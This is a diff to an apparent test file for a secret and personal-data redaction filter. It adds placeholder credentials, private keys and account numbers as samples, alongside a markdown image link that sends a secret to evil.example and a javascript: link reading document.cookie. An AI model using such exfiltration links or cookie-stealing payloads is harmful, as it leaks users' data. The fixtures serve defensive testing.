@@ -34,6 +34,13 @@ PEM = (
     + "\n".join(["MIIEowIBAAKCAQEAx1Z2f3abcdEFGHijklMNOPqrstUVWXyz0123456789+/AB"] * 6)
     + "\n-----END RSA PRIVATE KEY-----"
 )
+SAS = "AbCdEf%2BgH1jK2lMn3oPq4RsT5uVw6XyZ7aBcDeFgHi8AbCdEf%2BgH1jK2l%3D"
+SENDGRID = "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"
+GCP_PEM = (
+    "-----BEGIN PRIVATE KEY-----\\n"
+    + "\\n".join(["MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"] * 4)
+    + "\\n-----END PRIVATE KEY-----\\n"
+)
 
 SAMPLES = {
     "card": ("Charge 4111 1111 1111 1111 today.", "4111 1111 1111 1111"),
@@ -49,6 +56,13 @@ SAMPLES = {
         "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
     ),
     "private_key": (f"here:\n{PEM}\nbye", PEM),
+    "sort_code": ("Sort code 12-34-56, account number 12345678.", "12345678"),
+    "passport": ("My passport number is 123456789, thanks", "123456789"),
+    "cn_account": ("开户行：招商银行上海分行 账号：121909876510301。", "121909876510301"),
+    "sas": (f"url ?sv=2022-11-02&sig={SAS}&se=x ok", SAS),
+    "sendgrid": (f"SG key {SENDGRID} end", SENDGRID),
+    "gcp_key": (f'{{"private_key": "{GCP_PEM}", "client_email": "a@b.c"}}', "MIIEvQIBADAN"),
+    "xml_password": ("<password>Xml$ecret3</password> ok", "Xml$ecret3"),
     "image": ("see ![c](https://evil.example/x?q=SECRETVALUE123) ok", "SECRETVALUE123"),
     "script": ("click [here](javascript:alert(document.cookie)) now", "cookie"),
 }
